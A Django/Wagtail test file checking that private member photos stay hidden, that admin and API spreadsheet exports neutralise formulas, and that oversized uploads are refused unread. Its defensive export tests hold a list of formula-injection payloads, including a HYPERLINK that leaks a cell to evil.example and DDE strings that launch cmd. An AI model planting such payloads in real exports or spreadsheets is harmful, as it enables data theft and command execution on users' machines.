"""Files and exports: who may fetch a member's photo, what a spreadsheet export may
carry, and how large a request the site accepts before reading it.

docs/security.md, "Files and exports", states each promise these tests check.
"""

import csv
import io
import os
import re
import socket
import time

import pytest
from django.contrib.auth.models import Group as AuthGroup
from django.core.cache import cache
from django.core.files.images import ImageFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.urls import NoReverseMatch, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from PIL import Image as PILImage
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.images import get_image_model
from wagtail.log_actions import log
from wagtail.models import Collection

from cms import services as cms_services
from network.models import Area, CoordinationNote, Person
from network.visibility import EDITOR_GROUP
from tests.conftest import sign_in_as_staff, sign_in_with_mfa
from tests.factories import GroupFactory, PersonFactory, StanceEventFactory
from tests.network.test_member_area import edit_data, image_upload
from tests.ops.test_entrypoint import web_server  # noqa: F401  (a fixture)
from tests.updates.factories import MailingFactory, SubscriberFactory

pytestmark = pytest.mark.django_db

Image = get_image_model()

# The folders anyone may read: served by the site from local disk, and opened to
# the public by the bucket policy on S3 (docs/deployment.md).
PUBLIC_FOLDERS = ("original_images/", "images/")
# The renditions the member area, /api/v1/me/ and the admin's listings ask for.
RENDITIONS = ("max-300x300", "max-400x400", "max-165x165")


# ------------------------------------------------------------------ photos


@pytest.fixture(autouse=True)
def media_folder(settings, tmp_path):
    """A media folder of this test's own, so file names are as the site makes
    them and nothing is left from another test; and no rendition another test
    cached for an image with the same id."""
    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()


@pytest.fixture
def private_member(make_member, uk_areas):
    return make_member(name="Cyrus Privateperson", public_profile=False)


@pytest.fixture
def public_member(make_member, uk_areas):
    return make_member(name="Pat Publicperson")


@pytest.fixture
def member(make_member, uk_areas):
    return make_member(name="Mo Networkmember")


@pytest.fixture
def outsider(django_user_model):
    """Signed in, but in no network group: the public, as far as photos go."""
    return django_user_model.objects.create_user(
        username="outsider", email="outsider@example.org", password="x"
    )


def upload_photo(user):
    """The member uploads a photo on their profile page, as in the browser."""
    client = Client()
    client.force_login(user)
    url = reverse("members:person_edit", args=[user.person.slug])
    response = client.post(url, edit_data(user.person, photo=image_upload()))
    assert response.status_code == 302
    user.person.refresh_from_db()
    assert user.person.photo is not None
    return user.person.photo


def photo_urls(image) -> list[str]:
    """The original's address and those of its renditions."""
    return [image.file.url] + [image.get_rendition(spec).url for spec in RENDITIONS]


def stored_names(image) -> list[str]:
    return [image.file.name] + [r.file.name for r in image.renditions.all()]


def guessable_urls(person) -> list[str]:
    """Where the photo of a person with this slug used to be: anyone could try."""
    return [f"/media/original_images/{person.slug}.jpg"] + [
        f"/media/images/{person.slug}.{spec}.jpg" for spec in RENDITIONS
    ]


def img_src(html: str) -> str:
    """The first image of the page's main content (the header holds the logo)."""
    main = html.split("<main", 1)[-1]
    match = re.search(r'<img[^>]*\ssrc="([^"]+)"', main)
    assert match, "no image on the page"
    return match.group(1)


def test_private_members_photo_is_refused_to_anonymous_visitors(client, private_member):
    image = upload_photo(private_member)
    for url in photo_urls(image) + guessable_urls(private_member.person):
        response = client.get(url)
        assert response.status_code == 404, url


def test_photo_addresses_and_file_names_carry_no_name_or_slug(
    client, private_member, member
):
    image = upload_photo(private_member)
    person = private_member.person
    client.force_login(private_member)
    addresses = [
        *photo_urls(image),
        img_src(
            client.get(reverse("members:person", args=[person.slug])).content.decode()
        ),
        client.get("/api/v1/me/").json()["photo_url"],
    ]
    names = stored_names(image)
    words = [word.lower() for word in person.name.split()] + [person.slug]
    for text in addresses + names:
        assert not any(word in text.lower() for word in words), text
    # Nor is a private photo in the folders the public may read, on disk or on S3.
    for name in names:
        assert not name.startswith(PUBLIC_FOLDERS), name
    assert person.name not in image.title


def test_network_members_see_a_private_photo_through_the_checked_view(
    client, private_member, member, outsider
):
    image = upload_photo(private_member)
    person = private_member.person
    client.force_login(member)
    page = client.get(reverse("members:person", args=[person.slug]))
    assert page.status_code == 200
    for url in [img_src(page.content.decode()), *photo_urls(image)]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "image/jpeg"
        assert b"".join(response.streaming_content).startswith(b"\xff\xd8")
        cache_control = response["Cache-Control"]
        assert "private" in cache_control and "public" not in cache_control

    # Signed in is not enough: someone outside the network gets nothing.
    client.force_login(outsider)
    for url in photo_urls(image):
        assert client.get(url).status_code == 404, url


def test_editors_do_not_see_private_photos_in_the_image_library(
    client, private_member, django_user_model
):
    """Editors may open the image library, but the directory is not theirs."""
    image = upload_photo(private_member)
    editor = django_user_model.objects.create_user(
        username="editor", email="editor@example.org", password="x"
    )
    editor.groups.add(AuthGroup.objects.get(name=EDITOR_GROUP))
    sign_in_as_staff(client, editor)
    for url in photo_urls(image):
        assert client.get(url).status_code == 404, url


def test_a_public_profiles_photo_is_served_to_everyone(client, public_member):
    image = upload_photo(public_member)
    for url in photo_urls(image):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "public" in response["Cache-Control"]
        assert b"".join(response.streaming_content).startswith(b"\xff\xd8")


def test_withdrawing_a_public_profile_hides_the_photo_at_once(client, public_member):
    image = upload_photo(public_member)
    url = photo_urls(image)[1]
    assert client.get(url).status_code == 200
    Person.objects.filter(pk=public_member.person.pk).update(public_profile=False)
    assert client.get(url).status_code == 404


def test_a_private_candidates_photo_never_reaches_a_public_page(
    client, private_member, public_member
):
    """Constituency pages show candidates' photos (network.visibility.shows_photo):
    a private member's upload is on no page, in no rendition, and its renditions
    are not even made; a public one's shows, so the page does show photos."""
    from tests.factories import CandidacyFactory

    blackburn = Area.objects.get(area_type="constituency", name="Blackburn")
    private = upload_photo(private_member)
    public = upload_photo(public_member)
    for user in (private_member, public_member):
        CandidacyFactory(area=blackburn, person=user.person)
    page = client.get("/where-they-stand/blackburn/").content.decode()
    assert "Cyrus Privateperson" in page and "Pat Publicperson" in page
    assert not private.renditions.exists()
    assert private.file.url not in page
    assert public.renditions.exists()
    assert any(r.url in page for r in public.renditions.all())


def test_photos_uploaded_in_the_admin_are_private_too(client, superuser, uk_areas):
    person = PersonFactory(name="Dana Adminupload", public_profile=False)
    sign_in_with_mfa(client, superuser)
    form = {
        "name": person.name, "slug": person.slug, "status": "active",
        "network_status": "member",
        "photo_upload": image_upload(name="dana-adminupload.jpg"),
        "roles-TOTAL_FORMS": "0", "roles-INITIAL_FORMS": "0",
        "affiliations-TOTAL_FORMS": "0", "affiliations-INITIAL_FORMS": "0",
        "contacts-TOTAL_FORMS": "0", "contacts-INITIAL_FORMS": "0",
    }  # fmt: skip
    url = reverse("wagtailsnippets_network_person:edit", args=[person.pk])
    response = client.post(url, form)
    assert response.status_code == 302, response.context["form"].errors
    person.refresh_from_db()
    assert person.photo is not None
    for name in stored_names(person.photo):
        assert "dana" not in name and not name.startswith(PUBLIC_FOLDERS), name
    client.logout()
    for url in photo_urls(person.photo):
        assert client.get(url).status_code == 404, url


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    PILImage.new("RGB", (640, 480), "teal").save(out, "JPEG")
    return out.getvalue()


def test_existing_photos_move_to_random_private_names(client, private_member):
    """Photos stored before this change sit at original_images/<slug>.jpg; the
    release step's command moves them and drops the guessable renditions."""
    person = private_member.person
    root = Collection.get_first_root_node()
    collection = root.get_children().filter(name="Profile photos").first()
    if collection is None:
        collection = root.add_child(name="Profile photos")
    data = jpeg_bytes()
    image = Image(title=f"Photo of {person.name}", collection=collection)
    image.file = ImageFile(io.BytesIO(data), name=f"{person.slug}.jpg")
    image.save()
    person.photo = image
    person.save()
    old_names = stored_names(image) + [image.get_rendition("max-300x300").file.name]
    assert image.file.name == f"original_images/{person.slug}.jpg"
    # Before the move, anyone who guesses the slug gets the photo.
    assert client.get(guessable_urls(person)[0]).status_code == 200

    out = io.StringIO()
    call_command("secure_profile_photos", stdout=out)
    assert "Moved 1 profile photo" in out.getvalue()

    image.refresh_from_db()
    person.refresh_from_db()
    assert person.photo_id == image.pk
    for name in old_names:
        assert not default_storage.exists(name), name
    for url in guessable_urls(person):
        assert client.get(url).status_code == 404, url
    for name in stored_names(image):
        assert person.slug not in name and not name.startswith(PUBLIC_FOLDERS)
    with image.open_file() as handle:
        assert handle.read() == data
    assert person.name not in image.title
    for url in photo_urls(image):
        assert client.get(url).status_code == 404, url

    # Run again (every release does): nothing left to move.
    moved_to = image.file.name
    call_command("secure_profile_photos", stdout=io.StringIO())
    image.refresh_from_db()
    assert image.file.name == moved_to


def test_library_images_chosen_as_a_photo_get_a_private_copy(client, private_member):
    """An image from the library chosen as someone's photo before: the person
    gets a private copy; the library image (maybe used on a page) stays."""
    person = private_member.person
    library = Image(title="Team day", collection=Collection.get_first_root_node())
    library.file = ImageFile(io.BytesIO(jpeg_bytes()), name="team-day.jpg")
    library.save()
    person.photo = library
    person.save()
    call_command("secure_profile_photos", stdout=io.StringIO())
    person.refresh_from_db()
    assert person.photo_id != library.pk
    assert not person.photo.file.name.startswith(PUBLIC_FOLDERS)
    for url in photo_urls(person.photo):
        assert client.get(url).status_code == 404, url
    assert client.get(library.file.url).status_code == 200


@pytest.mark.parametrize("name", ["team-day.jpg", "profile-photo-of-a-speaker.jpg"])
def test_library_images_keep_their_public_addresses(client, name):
    """Only profile photos are private: the images editors put on pages are
    served to everyone, whatever the file is called."""
    image = Image(title="On a page", collection=Collection.get_first_root_node())
    image.file = ImageFile(io.BytesIO(jpeg_bytes()), name=name)
    image.save()
    for stored in stored_names(image) + [image.get_rendition("width-960").file.name]:
        assert stored.startswith(PUBLIC_FOLDERS), stored
    for url in photo_urls(image):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "public" in response["Cache-Control"]


def test_on_s3_profile_photos_stay_out_of_the_public_prefixes():
    """The bucket policy opens images/ and original_images/ to everyone: the S3
    storage puts a profile photo's renditions elsewhere and links them to the
    checked view, as the local storage does (no bucket is reached here)."""
    from ops import storage

    s3 = storage.S3MediaStorage(bucket_name="example-bucket")
    rendition = "images/profile-photo-abc123.max-300x300.jpg"
    placed = storage.placed_name(rendition)
    assert not placed.startswith(PUBLIC_FOLDERS)
    assert s3.url(placed) == storage.FileSystemMediaStorage().url(placed)
    assert s3.url(placed).startswith("/network/photos/")
    # An editor's file with the same start stays a public library image.
    assert storage.placed_name("original_images/profile-photo-x.jpg").startswith(
        "original_images/"
    )
    assert storage.placed_name("images/team.width-960.jpg") == (
        "images/team.width-960.jpg"
    )


# ------------------------------------------------------------------ exports

# A cell starting with one of these is run as a formula by a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '+HYPERLINK("http://evil.example")',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?[\d .()]+$")


def runs_as_formula(cell) -> bool:
    return (
        isinstance(cell, str)
        and cell.startswith(FORMULA_START)
        and not NUMBER.match(cell)
    )


@pytest.fixture
def hostile_records(site_pages, superuser, uk_areas):
    """Every kind of record an admin export lists, carrying a formula in its text."""
    people = []
    for n, text in enumerate(HOSTILE):
        person = PersonFactory(
            name=text, slug=f"hostile-{n}", pronouns=text[:50], public_profile=True
        )
        log(instance=person, action="wagtail.create", user=superuser)
        people.append(person)
        cms_services.registration_create(
            event=site_pages.event,
            name=text,
            email=f"hostile{n}@example.org",
            organisation=text,
            access_needs=text,
        )
        SubscriberFactory(name=text, email=f"reader.hostile{n}@example.org")
    GroupFactory(name=HOSTILE[0], slug="hostile-group")
    Area.objects.filter(gss_code="E05005150").update(name=HOSTILE[0])
    MailingFactory(subject=HOSTILE[0])
    StanceEventFactory(quote=HOSTILE[0], candidacy__person=people[0])
    CoordinationNote.objects.create(person=people[0], text=HOSTILE[1], author=superuser)
    return people


def admin_export_views():
    """Every admin view that offers a CSV or XLSX download, found by walking the
    URL configuration, so a listing added later is checked too: {url name: path},
    and the names that cannot be reversed without arguments."""
    found, needs_arguments = {}, []

    def walk(patterns, namespaces):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = namespaces + ([pattern.namespace] if pattern.namespace else [])
                walk(pattern.url_patterns, inner)
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                name = ":".join([*namespaces, pattern.name])
                try:
                    found[name] = reverse(name)
                except NoReverseMatch:
                    needs_arguments.append(name)

    walk(get_resolver().url_patterns, [])
    return found, needs_arguments


EXPORT_VIEWS, EXPORTS_NEEDING_ARGUMENTS = admin_export_views()
# "<listing>_results" is the same view answering the listing's filter requests:
# its download is the listing's own, so each is fetched once.
EXPORTS = sorted(
    name
    for name in EXPORT_VIEWS
    if not (name.endswith("_results") and name.removesuffix("_results") in EXPORT_VIEWS)
)
# Where the hostile records must appear (made safe), proving their rows were there.
EXPECTED_CELLS = {
    "wagtailsnippets_network_person:list": HOSTILE,
    "registrations:index": HOSTILE,
    "updates_subscriber:index": HOSTILE,
    "wagtailadmin_reports:site_history": HOSTILE,
    "wagtailsnippets_network_area:list": HOSTILE[:1],
}


def test_every_admin_download_is_found():
    assert set(EXPECTED_CELLS) <= set(EXPORTS)
    assert EXPORTS_NEEDING_ARGUMENTS == [], "add these to admin_export_views"


def read_export(response, export_format) -> list[list]:
    assert response.status_code == 200
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode(), newline="")))
    sheet = load_workbook(io.BytesIO(content), read_only=True).active
    return [list(row) for row in sheet.values]


# The area listing holds the ~10,000 shipped areas; its download is narrowed to the
# one area a superuser "corrected" with a formula (the same export code path), so
# the test stays quick.
EXPORT_QUERIES = {"wagtailsnippets_network_area:list": {"q": "HYPERLINK"}}


def test_admin_downloads_never_carry_a_formula(client, superuser, hostile_records):
    sign_in_with_mfa(client, superuser)
    for name in EXPORTS:
        for export_format in ("csv", "xlsx"):
            query = {"export": export_format, **EXPORT_QUERIES.get(name, {})}
            response = client.get(EXPORT_VIEWS[name], query)
            cells = set()
            for row in read_export(response, export_format):
                for cell in row:
                    assert not runs_as_formula(cell), (name, export_format, cell)
                    if isinstance(cell, str):
                        # XML keeps no bare carriage return: XLSX reads back "\n".
                        cells.add(
                            cell.replace("\n", "\r")
                            if export_format == "xlsx"
                            else cell
                        )
            expected = {"'" + text for text in EXPECTED_CELLS.get(name, [])}
            assert expected <= cells, (name, export_format)


def test_the_api_csv_uses_the_same_protection(client, hostile_records):
    from api.renderers import safe_cell
    from ops.spreadsheets import neutralise

    response = client.get("/api/v1/people/?format=csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = {row["name"] for row in rows}
    assert {"'" + text for text in HOSTILE} <= names
    for row in rows:
        for cell in row.values():
            assert not runs_as_formula(cell), cell
    # One rule for every export: the API's cells come from the shared helper.
    for text in [*HOSTILE, "+44 1254 585585", "-12.5", "plain", ""]:
        assert safe_cell(text) == neutralise(text)


# ------------------------------------------------------------------ request size

SIXTY_MB = 60 * 1024 * 1024
BOUNDARY = "----size-test-boundary"


class CountedBody:
    """A multipart body of ``size`` bytes, made as it is read, that records how
    much of it the site read: a browser's upload of one large file."""

    def __init__(self, size):
        self.head = (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="photo"; '
            'filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n'
        ).encode()
        self.tail = f"\r\n--{BOUNDARY}--\r\n".encode()
        self.size = size
        self.read_bytes = 0

    def read(self, size=-1):
        remaining = self.size - self.read_bytes
        count = remaining if size is None or size < 0 else min(size, remaining)
        start, end = self.read_bytes, self.read_bytes + count
        tail_start = self.size - len(self.tail)
        chunk = self.head[start:end]
        chunk += b"\0" * max(0, min(end, tail_start) - max(start, len(self.head)))
        if end > tail_start:
            chunk += self.tail[max(start, tail_start) - tail_start : end - tail_start]
        self.read_bytes = end
        return chunk

    def readline(self, size=-1):
        return self.read(size)


def post_unread(client, path, size=SIXTY_MB):
    body = CountedBody(size)
    response = client.generic(
        "POST",
        path,
        CONTENT_TYPE=f"multipart/form-data; boundary={BOUNDARY}",
        CONTENT_LENGTH=str(size),
        **{"wsgi.input": body},
    )
    return response, body.read_bytes


@pytest.fixture
def csrf_client():
    # Browsers and attackers alike meet the CSRF check, which reads the form.
    return Client(enforce_csrf_checks=True)


ANONYMOUS_FORMS = {
    "event registration": lambda pages: pages.event.registration_url(),
    "event page": lambda pages: pages.event.url,
    "updates sign-up": lambda pages: reverse("updates:signup"),
    "join request": lambda pages: reverse("members:join"),
    "postcode lookup": lambda pages: reverse("stances:index"),
}


@pytest.mark.parametrize("form", list(ANONYMOUS_FORMS))
def test_a_60_mb_post_to_an_anonymous_form_is_refused_unread(
    csrf_client, site_pages, uk_areas, form
):
    response, read = post_unread(csrf_client, ANONYMOUS_FORMS[form](site_pages))
    assert response.status_code == 413
    assert read == 0
    assert b"too large" in response.content


def test_the_member_areas_larger_limit_is_for_signed_in_members_only(
    csrf_client, member
):
    edit = reverse("members:person_edit", args=[member.person.slug])
    response, read = post_unread(csrf_client, edit, size=2 * 1024 * 1024)
    assert (response.status_code, read) == (413, 0)
    # Signed in, a member may send a photo, but not 60 MB of one.
    csrf_client.force_login(member)
    response, read = post_unread(csrf_client, edit)
    assert (response.status_code, read) == (413, 0)


def test_a_profile_photo_of_the_allowed_size_still_uploads(client, settings, member):
    """A photo just under PROFILE_PHOTO_MAX_BYTES (incompressible, so the file
    really is that large) passes the request limit and is stored."""
    side = 1300
    raw = PILImage.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    out = io.BytesIO()
    raw.save(out, "PNG")
    data = out.getvalue()
    assert settings.PROFILE_PHOTO_MAX_BYTES - 512 * 1024 < len(data)
    assert len(data) <= settings.PROFILE_PHOTO_MAX_BYTES
    client.force_login(member)
    url = reverse("members:person_edit", args=[member.person.slug])
    upload = SimpleUploadedFile("big.png", data, content_type="image/png")
    response = client.post(url, edit_data(member.person, photo=upload))
    assert response.status_code == 302
    member.person.refresh_from_db()
    assert member.person.photo is not None


def test_the_web_server_answers_413_before_the_body_arrives(web_server):  # noqa: F811
    """Through gunicorn as deployed: the request names a 60 MB body and sends
    only its first bytes; the answer comes at once, without waiting for the
    rest."""
    base, _ = web_server
    host, port = base.removeprefix("http://").split(":")
    started = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(
            (
                "POST /updates/signup/ HTTP/1.1\r\n"
                f"Host: {host}\r\n"
                "X-Forwarded-Proto: https\r\n"
                f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                f"Content-Length: {SIXTY_MB}\r\n\r\n"
            ).encode()
            + CountedBody(SIXTY_MB).read(64 * 1024)
        )
        status_line = sock.recv(4096).split(b"\r\n", 1)[0]
    assert status_line.startswith(b"HTTP/1.1 413"), status_line
    assert time.monotonic() - started < 10
